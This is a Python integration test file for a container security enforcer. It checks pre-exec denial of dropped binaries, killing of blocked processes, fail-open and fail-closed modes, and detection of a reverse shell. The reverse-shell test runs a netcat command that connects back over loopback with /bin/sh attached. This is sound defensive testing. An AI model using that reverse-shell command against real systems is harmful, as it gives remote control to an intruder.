@@ -1,0 +1,165 @@
+"""Verdicts enforced on the real kernel: execs denied before they run, blocked processes killed,
+reverse shells caught, and the fail modes when the stream app is away. Real Kafka, real stream
+worker, real runc container, real collector."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import subprocess
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from procwarden.testbed.containers import APP_LOOP, Container, run_container
+from schemas import (
+    Decision,
+    EventKind,
+    Incident,
+    IncidentAction,
+    ProfilePatch,
+    RuleChange,
+    ServiceConfig,
+    Verdict,
+)
+from schemas.connections import KafkaConnection
+from schemas.topics import POLICY_UPDATES, SECURITY_EVENTS, VERDICTS, verdict_partition
+from tests.integration.streamkit import WORKDIR, Pipeline, running_collector, wait_for_line
+
+NODE = "node-enforce"
+GROUP = "nv.guard.enf"
+# What the guard container may run: its app loop's shell, and a few tools.
+ALLOWED = ("sh", "cat", "cp", "echo", "sleep", "nc", "id")
+
+
+@dataclass
+class Guarded:
+    pipe: Pipeline
+    box: Container
+    log: Path
+    tmp: Path
+    collector: contextlib.ExitStack
+
+    def verdict(self, test: object, timeout: float = 30.0) -> Decision:
+        env, _ = self.pipe.wait_for(
+            VERDICTS.name, lambda e: isinstance(e.payload, Decision)
+            and e.payload.workload_id == self.box.id and test(e.payload),  # type: ignore[operator]
+            timeout=timeout, partitions=[verdict_partition(NODE, VERDICTS.partitions)])
+        assert isinstance(env.payload, Decision)
+        return env.payload
+
+
+@pytest.fixture(scope="module")
+def guarded(kafka: KafkaConnection, tmp_path_factory: pytest.TempPathFactory
+            ) -> Iterator[Guarded]:
+    tmp = tmp_path_factory.mktemp("enforce")
+    pipe = Pipeline(kafka, tmp)
+    pipe.start_worker()
+    try:
+        with contextlib.ExitStack() as collector, \
+                run_container(WORKDIR, "guard", namespace="enf", command=APP_LOOP) as box:
+            log = collector.enter_context(running_collector(pipe, NODE, tmp))
+            g = Guarded(pipe, box, log, tmp, collector)
+            # Long enough for /proc to be read: seen, announced, its group created.
+            assert box.app("sleep 1; echo ready") == (0, "ready\n")
+            g.verdict(lambda d: d.group == GROUP)
+            pipe.send(POLICY_UPDATES.name, GROUP, ProfilePatch(GROUP, process_change_list=tuple(
+                RuleChange(name, "/bin/busybox", "allow") for name in ALLOWED)))
+            pipe.send(POLICY_UPDATES.name, GROUP, ServiceConfig(
+                services=("guard.enf",), profile_mode="Protect", baseline_profile="zero-drift"))
+            state = g.verdict(lambda d: d.event_kind is EventKind.POLICY and d.pre_exec)
+            assert state.reason == "policy-state"
+            wait_for_line(log, f"holding execs of {box.id}")
+            yield g
+    finally:
+        pipe.stop_workers()
+
+
+def _incident(g: Guarded, test: object) -> Incident:
+    env, _ = g.pipe.wait_for(SECURITY_EVENTS.name, lambda e: isinstance(e.payload, Incident)
+                             and e.payload.workload_id == g.box.id
+                             and test(e.payload))  # type: ignore[operator]
+    assert isinstance(env.payload, Incident)
+    return env.payload
+
+
+def test_a_dropped_binary_is_denied_before_it_runs(guarded: Guarded) -> None:
+    g = guarded
+    rc, out = g.box.app("cp /bin/busybox /tmp/whoami && /tmp/whoami")
+    assert rc != 0 and "not permitted" in out.lower(), (rc, out)
+    check = g.verdict(lambda d: d.event_kind is EventKind.EXEC_CHECK and d.path == "/tmp/whoami")
+    assert (check.verdict, check.reason) == (Verdict.BLOCK, "pre-exec:not-in-profile")
+    found = _incident(g, lambda i: i.proc_path == "/tmp/whoami")
+    assert found.action is IncidentAction.DENY
+    # It never ran, so there is no exec event of it to decide.
+    # Allowed programs still run, and answers for them come from the cache from now on.
+    assert g.box.app("echo still fine") == (0, "still fine\n")
+    assert g.box.app("cat /etc/hostname") == (0, "busybox\n")
+
+
+def test_a_denied_applet_is_killed_while_another_runs_on(guarded: Guarded) -> None:
+    g = guarded
+    sleeper = g.box.spawn("sleep", "60")  # allowed (runtime-injected, but user rule)
+    tail = g.box.spawn("tail", "-f", "/dev/null")  # BusyBox: held pre-exec only as busybox
+    try:
+        decision = g.verdict(lambda d: d.event_kind is EventKind.EXEC and d.name == "tail")
+        assert decision.verdict is Verdict.BLOCK
+        assert tail.wait(15) != 0  # killed right after exec
+        wait_for_line(g.log, f"pid {decision.pid} (tail")
+        assert "killed" in g.log.read_text().split(f"pid {decision.pid} (tail", 1)[1][:200]
+        time.sleep(0.5)
+        assert sleeper.poll() is None  # the allowed applet runs on
+    finally:
+        sleeper.kill()
+        tail.kill()
+        sleeper.wait()
+        tail.wait()
+
+
+def test_a_reverse_shell_over_loopback_is_caught(guarded: Guarded) -> None:
+    g = guarded
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(1)
+        listener.settimeout(20)
+        port = listener.getsockname()[1]
+        shell = g.box.spawn("nc", "127.0.0.1", str(port), "-e", "/bin/sh")
+        try:
+            conn, _ = listener.accept()
+            with conn:
+                found = _incident(g, lambda i: i.name == "Container.Tunnel.Detected")
+                assert found.action is IncidentAction.DENY
+                assert found.message.startswith("Tunnel detected: reverse shell")
+                conn.settimeout(15)
+                # Protect: the shell is killed, so the attacker's end sees the connection close.
+                assert conn.recv(1024) == b""
+        finally:
+            shell.kill()
+            shell.wait()
+
+
+def test_fail_modes_when_the_stream_app_is_away(guarded: Guarded) -> None:
+    g = guarded
+    g.pipe.stop_workers()
+    # Open (the default): a first-seen exec waits for the timeout, then runs.
+    started = time.monotonic()
+    assert g.box.app("cp /bin/busybox /tmp/true && /tmp/true; echo $?") == (0, "0\n")
+    assert time.monotonic() - started < 10  # the host did not hang
+    assert "allowed by fail mode" in g.log.read_text()
+    # Closed: the collector restarts, remembers the workload is held, and denies.
+    g.collector.close()
+    closed = g.tmp / "closed"
+    closed.mkdir()
+    env = {"COLLECTOR_FAIL_MODE": "closed",
+           "COLLECTOR_STATE_DIR": str(g.tmp / f"collector-{NODE}")}
+    with running_collector(g.pipe, NODE, closed, **env) as log:
+        wait_for_line(log, f"holding execs of {g.box.id}")
+        started = time.monotonic()
+        rc, out = g.box.app("/tmp/true")
+        assert rc != 0, out
+        assert time.monotonic() - started < 10
+        assert "denied by fail mode" in log.read_text()
+        subprocess.run(["true"], check=True, timeout=5)  # host processes are never held
